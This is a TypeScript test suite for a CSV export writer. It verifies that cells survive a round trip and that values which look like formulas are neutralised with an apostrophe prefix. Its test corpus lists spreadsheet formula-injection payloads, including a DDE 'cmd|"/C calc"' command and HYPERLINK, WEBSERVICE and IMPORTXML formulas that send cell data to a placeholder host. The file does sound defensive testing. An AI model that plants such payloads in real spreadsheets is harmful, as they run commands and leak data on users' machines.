import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_LEADING_RECORDS, csvFileName, csvOpening, csvRecord } from './csv.ts';
import { cents } from './money.ts';

// Lone surrogates included.
const anyCharacter = fc.integer({ min: 0, max: 0x10ffff }).map((point) => String.fromCodePoint(point));

/** RFC 4180 read strictly from its grammar; shares nothing with the writer. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let at = 0;
  const cell = (): string => {
    if (text[at] !== '"') {
      const from = at;
      while (at < text.length && text[at] !== ',' && text[at] !== '\r' && text[at] !== '\n') {
        if (text[at] === '"') throw new Error(`a quote inside a bare cell at ${at}`);
        at += 1;
      }
      return text.slice(from, at);
    }
    let value = '';
    for (at += 1; ; at += 1) {
      if (at >= text.length) throw new Error('an open quote');
      if (text[at] !== '"') value += text[at];
      else if (text[at + 1] === '"') {
        value += '"';
        at += 1;
      } else break;
    }
    at += 1;
    return value;
  };
  while (at < text.length) {
    const record = [cell()];
    while (text[at] === ',') {
      at += 1;
      record.push(cell());
    }
    if (text.slice(at, at + 2) !== '\r\n') throw new Error(`no line end at ${at}`);
    at += 2;
    records.push(record);
  }
  return records;
}

/** Every text that some spreadsheet could take for a cell of its own: split at commas with quotes honoured, and at
 *  semicolons, tabs and line ends without. */
function possibleCells(file: string): string[] {
  return [...parseCsv(file).flat(), ...file.split(/[;\t\r\n]/)];
}

function couldBeFormula(text: string): boolean {
  return /^[=+\-@\u2212\t\r\n\0]/.test(text.replace(/^[\s"\u200b-\u200f\u2060\ufeff]*/, '').normalize('NFKC')) || /^[\t\r\n\0]/.test(text);
}

const readBack = (text: string): string => {
  const [record, ...more] = parseCsv(csvRecord([text, 'next']));
  expect(more).toEqual([]);
  expect(record?.[1]).toBe('next');
  return record?.[0] ?? '';
};

const HARMLESS = [
  '', ' ', 'a', 'Ada Lovelace', "O'Brien", 'José', '李小龍', '👩‍👩‍👧', 'Ångström', 'é', '100.00', '1,000.00', '0042', '021000021', '1e5', '$5', '%', '#REF!', '#N/A', 'TRUE', 'a=b', 'a+b', 'a-b', 'a@b.example',
  'a;b', 'a|b', 'x,y', ',', ',,', '"', '""', 'say "hi"', '"quoted"', 'line\nbreak', 'line\r\nbreak', 'line\rbreak', 'tab\tinside', 'trailing ', 'trailing,', "ends with '", '\\', '\\"', 'a\\,b', '(1)', '!A1', '/etc', '…', '•••• 6789', 'op_0123456789ab', 'ltra-1',
];

// What was written, and what the file must hold.
const DANGEROUS: [string, string][] = [
  ['=1+1', "'=1+1"],
  ['=cmd|"/C calc"!A0', `'=cmd|"/C calc"!A0`],
  ['=HYPERLINK("http://x.example?"&A1,"click")', `'=HYPERLINK("http://x.example?"&A1,"click")`],
  ['=WEBSERVICE("http://x.example")', `'=WEBSERVICE("http://x.example")`],
  ["=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")", "'=IMPORTXML(CONCAT(\"http://x.example?\",A1),\"//a\")"],
  ['+1', "'+1"],
  ['+1 555 0100', "'+1 555 0100"],
  ['-1', "'-1"],
  ['-12.00', "'-12.00"],
  ['-2+3+cmd|" /C calc"!A0', `'-2+3+cmd|" /C calc"!A0`],
  ['@SUM(1+1)*cmd|" /C calc"!A0', `'@SUM(1+1)*cmd|" /C calc"!A0`],
  ['@ada', "'@ada"],
  ['=', "'="],
  ['-', "'-"],
  ['--', "'--"],
  ['\u22125', "'\u22125"],
  ['\t=1', "'\t'=1"],
  ['\ttext', "'\ttext"],
  ['\r=1', "'\r'=1"],
  ['\rtext', "'\rtext"],
  ['\n=1', "'\n'=1"],
  ['\ntext', "'\ntext"],
  ['\r\n=1', "'\r\n'=1"],
  ['\0=1', "'\ufffd=1"],
  ['\0text', '\ufffdtext'],
  ['a\0b', 'a\ufffdb'],
  ['\u0007bell', '\ufffdbell'],
  ['\u001b[31mred', '\ufffd[31mred'],
  ['\u0085=1', "'\ufffd=1"],
  [' =1', "' =1"],
  ['   +1', "'   +1"],
  ['\u00a0=1', "'\u00a0=1"],
  ['\u3000=1', "'\u3000=1"],
  ['\u200b=1', "'\u200b=1"],
  ['\ufeff=1', "'\ufeff=1"],
  ['\u202e=1', "'\u202e=1"],
  ['"=1"', `'"=1"`],
  ["'=1", "''=1"],
  ['＝1+1', "'＝1+1"],
  ['＋1', "'＋1"],
  ['－1', "'－1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  ['﹦1', "'﹦1"],
  ['﹣1', "'﹣1"],
  ['⁼1', "'⁼1"],
  ['x;=1', "x;'=1"],
  ['x; =1', "x;' =1"],
  ['x;"=1', `x;'"=1`],
  ['x\t=1', "x\t'=1"],
  ['x\n=1', "x\n'=1"],
  ['x\r\n-1', "x\r\n'-1"],
  ['x";=1', `x";'=1`],
  ['\ud800=1', "'\ufffd=1"],
];

describe('a cell', () => {
  it('has a corpus worth the name', () => {
    expect(new Set([...HARMLESS, ...DANGEROUS.map(([text]) => text)]).size).toBeGreaterThanOrEqual(100);
  });

  it.each(HARMLESS)('comes back as it was: %j', (text) => {
    expect(readBack(text)).toBe(text);
  });

  it.each(DANGEROUS)('is no formula: %j becomes %j', (text, held) => {
    expect(readBack(text)).toBe(held);
    for (const cell of possibleCells(csvRecord(['op_1', text, 'next']))) expect(couldBeFormula(cell), JSON.stringify(cell)).toBe(false);
  });

  it('is safe and whole whatever it holds (property)', () => {
    const nasty = fc.constantFrom('=', '+', '-', '@', '＝', '\u2212', '\t', '\r', '\n', '\0', '"', "'", ',', ';', ' ', '\u200b', 'a', '1');
    const anyText = fc.oneof(fc.string({ unit: nasty, maxLength: 12 }), fc.string({ unit: anyCharacter }));
    fc.assert(
      fc.property(fc.array(anyText, { minLength: 1, maxLength: 5 }), (texts) => {
        const file = csvRecord(['op_1', ...texts]);
        const [record = [], ...more] = parseCsv(file);
        expect(more).toEqual([]);
        expect(record).toHaveLength(texts.length + 1);
        for (const [index, text] of texts.entries()) expect(withoutAdditions(record[index + 1] ?? '')).toBe(withoutAdditions(text));
        for (const cell of possibleCells(file)) expect(couldBeFormula(cell), JSON.stringify([texts, cell])).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });

  it('keeps our own amounts and times plain, below zero too', () => {
    expect(csvRecord([cents(123_456n), cents(-1_200n), cents(0n), new Date('2026-11-20T19:05:00Z'), null])).toBe('1234.56,-12.00,0.00,2026-11-20T19:05:00.000Z,\r\n');
  });
});

// The writer may add apostrophes and replace controls; anything else would be a loss.
function withoutAdditions(text: string): string {
  return text.toWellFormed().replaceAll("'", '').replaceAll(/[^\P{Cc}\t\r\n]/gu, '\ufffd');
}

describe('the opening of a file', () => {
  const columns = ['Operation', 'Amount', 'Maker', 'Sent at'] as const;
  const opening = csvOpening({ title: 'Fundings', filter: '=state "unknown", from Nov 1, 2026', timeZone: 'America/New_York', madeAt: new Date('2026-11-20T19:05:00Z'), columns });

  it('says what was exported, in leading records as wide as all others', () => {
    expect(opening.startsWith('\ufeffExport,')).toBe(true);
    const records = parseCsv(opening.slice(1));
    expect(records).toEqual([
      ['Export', 'Fundings', '', ''],
      ['Filter', '\'=state "unknown", from Nov 1, 2026', '', ''],
      ['Time zone', 'Days in the filter: America/New_York. Times in this file: UTC.', '', ''],
      ['Made at', '2026-11-20T19:05:00.000Z', '', ''],
      [...columns],
    ]);
    expect(records[CSV_LEADING_RECORDS]).toEqual([...columns]);
  });

  it('stays as wide with the fewest columns', () => {
    const records = parseCsv(csvOpening({ title: 'x', filter: '', timeZone: 'UTC', madeAt: new Date(0), columns: ['a', 'b'] }).slice(1));
    expect(records.map((record) => record.length)).toEqual([2, 2, 2, 2, 2]);
  });

  it('gives the file a plain name', () => {
    expect(csvFileName('fundings', new Date('2026-11-20T19:05:00.123Z'))).toBe('fundings-20261120T190500Z.csv');
  });
});
